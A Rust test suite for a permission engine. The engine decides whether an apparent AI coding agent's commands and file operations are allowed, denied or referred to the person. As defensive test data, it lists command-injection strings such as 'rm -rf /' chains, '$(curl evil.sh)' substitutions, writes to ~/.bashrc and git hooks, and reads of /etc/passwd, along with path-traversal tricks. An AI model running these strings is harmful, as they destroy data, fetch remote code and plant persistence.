#![allow(clippy::unwrap_used, reason = "a test says what it expects by failing")]

use super::{Decision, Ground, PolicyMode, Rule, RuleDraft, Scope, Verdict, decide};
use crate::entry::{Ask, AskKind, AskOption, OptionKind, ToolCall, ToolKind, ToolStatus};
use kernel::{ProjectId, RuleId, SessionId, Timestamp};
use proptest::prelude::*;
use std::path::Path;

const TREE: &str = "/home/me/worktree";

#[derive(Clone, Copy, Debug, PartialEq)]
enum Said {
    Ask,
    Allow,
    Deny,
}

fn ask(tool: Option<ToolKind>, command: Option<&str>, paths: &[&str]) -> Ask {
    let option = |kind: OptionKind| AskOption {
        id: format!("{kind:?}"),
        name: format!("{kind:?}"),
        kind,
    };
    Ask {
        kind: AskKind::Permission,
        title: "May I?".to_owned(),
        call: tool.map(|tool| ToolCall {
            call: "c".to_owned(),
            tool,
            title: String::new(),
            status: ToolStatus::Pending,
            locations: Vec::new(),
            content: Vec::new(),
            input: None,
        }),
        options: vec![
            option(OptionKind::AllowOnce),
            option(OptionKind::AllowAlways),
            option(OptionKind::RejectOnce),
        ],
        fields: Vec::new(),
        command: command.map(str::to_owned),
        paths: paths.iter().map(|path| (*path).to_owned()).collect(),
    }
}

fn runs(command: &str) -> Ask {
    ask(Some(ToolKind::Execute), Some(command), &[])
}

fn touches(tool: ToolKind, paths: &[&str]) -> Ask {
    ask(Some(tool), None, paths)
}

fn rule(verdict: Verdict, tool: Option<ToolKind>, command: &str, path: &str) -> Rule {
    let named = |text: &str| (!text.is_empty()).then(|| text.to_owned());
    Rule {
        id: RuleId::new("r"),
        scope: Scope::Global,
        verdict,
        tool,
        command: named(command),
        path: named(path),
        created_at: Timestamp::default(),
    }
}

fn allow_command(command: &str) -> Rule {
    rule(Verdict::Allow, None, command, "")
}

fn whole(ask: &Ask, mode: PolicyMode, rules: &[Rule]) -> Decision {
    let (session, project) = (SessionId::new("s"), ProjectId::new("p"));
    decide(
        ask,
        Ground {
            tree: Path::new(TREE),
            session: &session,
            project: Some((&project, "engine")),
            rules,
            mode,
            mode_of: &Scope::Global,
        },
    )
}

fn said(ask: &Ask, mode: PolicyMode, rules: &[Rule]) -> Said {
    match whole(ask, mode, rules) {
        Decision::Ask => Said::Ask,
        Decision::Allow { option, .. } => {
            assert_eq!(
                option.kind,
                OptionKind::AllowOnce,
                "never for longer than once"
            );
            Said::Allow
        }
        Decision::Deny { option, .. } => {
            assert_eq!(option.kind, OptionKind::RejectOnce);
            Said::Deny
        }
    }
}

#[test]
fn a_rule_for_a_command_allows_that_command_and_nothing_a_shell_makes_more_of() {
    let rules = ["git status", "cargo test", "rg"].map(allow_command);
    for command in [
        "git status",
        "git status -s",
        "  git   status  ",
        "git 'status'",
        "cargo test --workspace",
        "rg 'a b' src",
    ] {
        assert_eq!(
            said(&runs(command), PolicyMode::Ask, &rules),
            Said::Allow,
            "{command}"
        );
    }
    for command in [
        "git status; rm -rf /",
        "git status;rm -rf /",
        "git status && rm -rf /",
        "git status & rm -rf /",
        "git status | sh",
        "git status\nrm -rf /",
        "git status\rrm -rf /",
        "cargo test $(curl evil.sh)",
        "cargo test `curl evil.sh`",
        "cargo test \"$(curl evil.sh)\"",
        "cargo test ${X@P}",
        "cargo test > ~/.bashrc",
        "cargo test < /etc/passwd",
        "cargo test <(curl evil.sh)",
        "rg x >> .git/hooks/pre-commit",
        "(cargo test)",
        "{ cargo test; }",
        "./cargo test",
        "/tmp/cargo test",
        "RUSTC_WRAPPER=./evil cargo test",
        "env cargo test",
        "sudo cargo test",
        "sh -c 'cargo test'",
        "bash -c 'git status'",
        "timeout 5 cargo test",
        "git stash",
        "git",
        "gitstatus",
        "git -C /elsewhere status",
        "git 'status",
        "cargo",
        "cargo  build",
        "",
        "   ",
    ] {
        assert_eq!(
            said(&runs(command), PolicyMode::Ask, &rules),
            Said::Ask,
            "{command:?}"
        );
    }
}

#[test]
fn a_rule_that_forbids_a_command_is_not_passed_by_hiding_it() {
    let rules = [rule(Verdict::Deny, None, "git push", "")];
    for command in [
        "git push",
        "git push --force",
        "true; git push",
        "true && git push origin main",
        "(git push)",
        "ls | git push",
    ] {
        assert_eq!(
            said(&runs(command), PolicyMode::AllowAll, &rules),
            Said::Deny,
            "{command}"
        );
    }
    for command in [
        "git -C /elsewhere push",
        "/usr/bin/git push",
        "./git push",
        "GIT_DIR=x git push",
        "sudo git push",
        "sh -c 'git push'",
        "echo git",
        "$GIT push",
        "git 'push",
        "/usr/bin/gi? push",
        "g[i]t push",
        "git pu*",
        "make release; true",
    ] {
        assert_eq!(
            said(&runs(command), PolicyMode::AllowAll, &rules),
            Said::Ask,
            "{command}"
        );
    }
    for command in ["git status", "cargo test", "ls -l"] {
        assert_eq!(
            said(&runs(command), PolicyMode::AllowAll, &rules),
            Said::Allow,
            "{command}"
        );
    }
    let nameless = ask(Some(ToolKind::Execute), None, &[]);
    assert_eq!(said(&nameless, PolicyMode::AllowAll, &rules), Said::Ask);
}

#[test]
fn modes_allow_what_lies_in_the_worktree() {
    use PolicyMode::{AllowAll, AllowEdits, AllowReads};
    use Said::{Allow, Ask};
    use ToolKind::{Delete, Edit, Execute, Fetch, Move, Other, Read, Search};
    let inside = "/home/me/worktree/src/lib.rs";
    let table: &[(ToolKind, &[&str], [Said; 3])] = &[
        (Read, &[inside], [Allow, Allow, Allow]),
        (Search, &[TREE], [Allow, Allow, Allow]),
        (Read, &[], [Ask, Ask, Allow]),
        (Edit, &[inside], [Ask, Allow, Allow]),
        (Delete, &[inside], [Ask, Allow, Allow]),
        (Move, &[inside, "/home/me/worktree/b"], [Ask, Allow, Allow]),
        (Edit, &[], [Ask, Ask, Allow]),
        (Delete, &[TREE], [Ask, Ask, Allow]),
        (Execute, &[inside], [Ask, Ask, Allow]),
        (Fetch, &[], [Ask, Ask, Allow]),
        (Other, &[inside], [Ask, Ask, Allow]),
        (Edit, &["/home/me/worktree-evil/a"], [Ask, Ask, Allow]),
        (Edit, &["/home/me/worktree/../evil"], [Ask, Ask, Allow]),
        (Read, &["/home/me/worktree/a/../../evil"], [Ask, Ask, Allow]),
        (Read, &["src/lib.rs"], [Ask, Ask, Allow]),
        (Read, &[inside, "/etc/passwd"], [Ask, Ask, Allow]),
        (
            Edit,
            &["/home/me/worktree/.git/hooks/pre-commit"],
            [Ask, Ask, Allow],
        ),
        (Edit, &["/home/me/worktree/.git"], [Ask, Ask, Allow]),
        (Edit, &["/home/me/worktree/.GIT/config"], [Ask, Ask, Allow]),
        (
            Edit,
            &["/home/me/worktree/sub/.git/config"],
            [Ask, Ask, Allow],
        ),
        (Edit, &["/home/me/worktree/.git./config"], [Ask, Ask, Allow]),
        (
            Edit,
            &["/home/me/worktree/.g\u{200c}it/config"],
            [Ask, Ask, Allow],
        ),
        (Edit, &["/home/me/worktree/git~1/config"], [Ask, Ask, Allow]),
        (Edit, &["/home/me/worktree/.gitignore"], [Ask, Allow, Allow]),
        // A link that leads out of the tree comes resolved.
        (Edit, &["/etc/passwd"], [Ask, Ask, Allow]),
    ];
    for (tool, paths, expected) in table {
        for (mode, expected) in [AllowReads, AllowEdits, AllowAll].into_iter().zip(expected) {
            let request = touches(*tool, paths);
            assert_eq!(
                said(&request, mode, &[]),
                *expected,
                "{tool:?} {paths:?} {mode:?}"
            );
        }
        assert_eq!(said(&touches(*tool, paths), PolicyMode::Ask, &[]), Ask);
    }
    let unknown = ask(None, None, &[inside]);
    assert_eq!(said(&unknown, AllowEdits, &[]), Ask);
}

#[test]
fn plans_and_questions_are_always_the_persons() {
    let all = rule(Verdict::Allow, Some(ToolKind::SwitchMode), "", "");
    for kind in [AskKind::Plan, AskKind::Question] {
        let request = Ask {
            kind,
            ..ask(Some(ToolKind::SwitchMode), None, &[])
        };
        let rules = std::slice::from_ref(&all);
        assert_eq!(said(&request, PolicyMode::AllowAll, rules), Said::Ask);
    }
}

#[test]
fn forbidding_beats_asking_beats_allowing_whatever_the_scopes() {
    let in_session = |verdict| Rule {
        scope: Scope::Session {
            id: SessionId::new("s"),
        },
        ..rule(verdict, None, "cargo test", "")
    };
    let global = |verdict| rule(verdict, None, "cargo", "");
    use Verdict::{Allow, Ask, Deny};
    for (narrow, wide, expected) in [
        (Allow, Deny, Said::Deny),
        (Deny, Allow, Said::Deny),
        (Allow, Ask, Said::Ask),
        (Ask, Allow, Said::Ask),
        (Ask, Deny, Said::Deny),
        (Allow, Allow, Said::Allow),
    ] {
        for rules in [
            [in_session(narrow), global(wide)],
            [global(wide), in_session(narrow)],
        ] {
            assert_eq!(
                said(&runs("cargo test"), PolicyMode::AllowAll, &rules),
                expected
            );
        }
    }
}

#[test]
fn a_rule_holds_in_its_scope_only() {
    for (scope, expected) in [
        (Scope::Global, Said::Allow),
        (
            Scope::Project {
                id: ProjectId::new("p"),
            },
            Said::Allow,
        ),
        (
            Scope::Project {
                id: ProjectId::new("other"),
            },
            Said::Ask,
        ),
        (
            Scope::Session {
                id: SessionId::new("s"),
            },
            Said::Allow,
        ),
        (
            Scope::Session {
                id: SessionId::new("other"),
            },
            Said::Ask,
        ),
    ] {
        let rules = [Rule {
            scope,
            ..allow_command("cargo test")
        }];
        assert_eq!(said(&runs("cargo test"), PolicyMode::Ask, &rules), expected);
    }
}

#[test]
fn a_rule_for_a_path_wants_all_paths_to_allow_and_one_to_forbid() {
    let allow = [rule(Verdict::Allow, Some(ToolKind::Edit), "", "src")];
    let deny = [rule(Verdict::Deny, None, "", "secrets")];
    let edits = |paths: &[&str]| touches(ToolKind::Edit, paths);
    let (a, b) = ("/home/me/worktree/src/a", "/home/me/worktree/docs/b");
    let secret = "/home/me/worktree/secrets/key";
    for (request, rules, mode, expected) in [
        (edits(&[a]), &allow, PolicyMode::Ask, Said::Allow),
        (edits(&[a, b]), &allow, PolicyMode::Ask, Said::Ask),
        (
            edits(&["/home/me/worktree/src-evil/a"]),
            &allow,
            PolicyMode::Ask,
            Said::Ask,
        ),
        (
            edits(&["/home/me/worktree/src/.git/a"]),
            &allow,
            PolicyMode::Ask,
            Said::Ask,
        ),
        (
            edits(&["/home/me/worktree/src/../.git/a"]),
            &allow,
            PolicyMode::Ask,
            Said::Ask,
        ),
        (edits(&["src/a"]), &allow, PolicyMode::Ask, Said::Ask),
        (edits(&[]), &allow, PolicyMode::Ask, Said::Ask),
        (edits(&[a, secret]), &deny, PolicyMode::AllowAll, Said::Deny),
        (
            touches(ToolKind::Read, &[secret]),
            &deny,
            PolicyMode::AllowAll,
            Said::Deny,
        ),
        (edits(&[a]), &deny, PolicyMode::AllowAll, Said::Allow),
        (
            runs("cat secrets/key"),
            &deny,
            PolicyMode::AllowAll,
            Said::Ask,
        ),
    ] {
        assert_eq!(said(&request, mode, rules), expected, "{request:?}");
    }
}

#[test]
fn a_rule_that_allows_edits_means_those_of_the_worktree() {
    let rules = [rule(Verdict::Allow, Some(ToolKind::Edit), "", "")];
    for (path, expected) in [
        ("/home/me/worktree/a", Said::Allow),
        ("/home/me/.bashrc", Said::Ask),
        ("/home/me/worktree/.git/config", Said::Ask),
    ] {
        let request = touches(ToolKind::Edit, &[path]);
        assert_eq!(said(&request, PolicyMode::Ask, &rules), expected, "{path}");
    }
    let elsewhere = [rule(
        Verdict::Allow,
        Some(ToolKind::Edit),
        "",
        "/home/me/notes",
    )];
    let request = touches(ToolKind::Edit, &["/home/me/notes/a"]);
    assert_eq!(said(&request, PolicyMode::Ask, &elsewhere), Said::Allow);
}

#[test]
fn where_the_agent_offers_no_such_choice_the_person_is_asked() {
    let with = |kinds: &[OptionKind]| {
        let mut request = runs("cargo test");
        request.options = kinds
            .iter()
            .enumerate()
            .map(|(n, kind)| AskOption {
                id: n.to_string(),
                name: n.to_string(),
                kind: *kind,
            })
            .collect();
        request
    };
    use OptionKind::{AllowAlways, AllowOnce, RejectAlways, RejectOnce};
    let (all, deny) = (
        PolicyMode::AllowAll,
        [rule(Verdict::Deny, None, "cargo", "")],
    );
    assert_eq!(said(&with(&[AllowAlways, RejectOnce]), all, &[]), Said::Ask);
    assert_eq!(said(&with(&[AllowOnce, AllowOnce]), all, &[]), Said::Ask);
    assert_eq!(
        said(&with(&[AllowOnce, RejectAlways]), all, &deny),
        Said::Ask
    );
    assert_eq!(said(&with(&[]), all, &deny), Said::Ask);
}

#[test]
fn what_decided_is_told_in_words() {
    let rules = [Rule {
        scope: Scope::Project {
            id: ProjectId::new("p"),
        },
        ..allow_command("cargo test")
    }];
    let Decision::Allow { by, .. } = whole(&runs("cargo test -q"), PolicyMode::Ask, &rules) else {
        panic!("the rule allows it");
    };
    assert_eq!(by, "Allowed by rule: run `cargo test` (project engine)");
    let Decision::Allow { by, .. } = whole(&runs("ls"), PolicyMode::AllowAll, &[]) else {
        panic!("the mode allows it");
    };
    assert_eq!(by, "Allowed by mode: everything (everywhere)");
    let rules = [rule(Verdict::Deny, Some(ToolKind::Fetch), "", "")];
    let fetch = touches(ToolKind::Fetch, &[]);
    let Decision::Deny { by, .. } = whole(&fetch, PolicyMode::AllowAll, &rules) else {
        panic!("the rule refuses it");
    };
    assert_eq!(by, "Refused by rule: fetch (everywhere)");
}

#[test]
fn a_draft_that_says_nothing_or_too_much_makes_no_rule() {
    let draft = |tool, command: &str, path: &str| RuleDraft {
        scope: Scope::Global,
        verdict: Verdict::Allow,
        tool,
        command: Some(command.to_owned()),
        path: Some(path.to_owned()),
    };
    for bad in [
        draft(None, "", "  "),
        draft(None, "git status; rm", ""),
        draft(None, "sudo make", ""),
        draft(None, "A=1 make", ""),
        draft(None, "make 'x", ""),
        draft(Some(ToolKind::Edit), "", "../other"),
        draft(None, "", "~/.ssh"),
        draft(Some(ToolKind::Edit), "", "src/*.rs"),
    ] {
        assert!(bad.clone().checked().is_err(), "{bad:?}");
    }
    let good = draft(None, " cargo test ", "").checked().unwrap();
    assert_eq!(good.command.as_deref(), Some("cargo test"));
    assert_eq!(good.path, None);
}

fn tool() -> impl Strategy<Value = Option<ToolKind>> {
    use ToolKind::{Delete, Edit, Execute, Fetch, Move, Other, Read, Search, Think};
    prop::option::of(prop::sample::select(vec![
        Read, Edit, Delete, Move, Search, Execute, Think, Fetch, Other,
    ]))
}

fn path() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "/home/me/worktree/src/a",
        "/home/me/worktree/.git/config",
        "/home/me/worktree/src/../b",
        "/home/me/worktree-evil/a",
        "/etc/passwd",
        "src",
        "relative/a",
    ])
}

fn command() -> impl Strategy<Value = String> {
    let words = prop::sample::select(vec![
        "git", "status", "push", "rm", "-rf", ";", "&&", "|", "$(x)", "sudo", "A=1", "'", "./git",
    ]);
    prop::collection::vec(words, 0..6).prop_map(|words| words.join(" "))
}

prop_compose! {
    fn request()(
        tool in tool(),
        command in prop::option::of(command()),
        paths in prop::collection::vec(path(), 0..3),
    ) -> Ask {
        ask(tool, command.as_deref(), &paths)
    }
}

prop_compose! {
    fn any_rule()(
        verdict in prop::sample::select(vec![Verdict::Allow, Verdict::Ask, Verdict::Deny]),
        tool in tool(),
        command in prop::option::of(prop::sample::select(vec!["git", "git push", "rm -rf"])),
        path in prop::option::of(prop::sample::select(vec!["src", "/etc", ".git"])),
    ) -> Rule {
        rule(verdict, tool, command.unwrap_or_default(), path.unwrap_or_default())
    }
}

fn mode() -> impl Strategy<Value = PolicyMode> {
    prop::sample::select(vec![
        PolicyMode::Ask,
        PolicyMode::AllowReads,
        PolicyMode::AllowEdits,
        PolicyMode::AllowAll,
    ])
}

proptest! {
    /// More rules that forbid or ask, and fewer that allow, never let more through.
    #[test]
    fn what_is_forbidden_is_never_allowed_by_anything_else(
        request in request(),
        rules in prop::collection::vec(any_rule(), 0..6),
        more in prop::collection::vec(any_rule(), 0..4),
        mode in mode(),
    ) {
        let before = said(&request, mode, &rules);
        let all: Vec<Rule> = rules.iter().chain(&more).cloned().collect();
        if before == Said::Deny {
            prop_assert_eq!(said(&request, mode, &all), Said::Deny);
        }
        let stricter: Vec<Rule> = all.into_iter().filter(|rule| {
            rule.verdict != Verdict::Allow || rules.contains(rule)
        }).collect();
        if before == Said::Ask {
            prop_assert!(said(&request, mode, &stricter) != Said::Allow);
        }
    }

    /// In the modes that know a worktree, nothing outside of it, of git's own, or unknown is let through.
    #[test]
    fn a_mode_never_lets_anything_unclear_through(
        request in request(),
        mode in prop::sample::select(vec![PolicyMode::Ask, PolicyMode::AllowReads, PolicyMode::AllowEdits]),
    ) {
        if said(&request, mode, &[]) == Said::Allow {
            prop_assert!(!request.paths.is_empty());
            prop_assert!(request.paths.iter().all(|path| path == "/home/me/worktree/src/a"));
            let tool = request.call.map(|call| call.tool);
            prop_assert!(!matches!(tool, None | Some(ToolKind::Execute | ToolKind::Fetch | ToolKind::Other)));
        }
    }
}
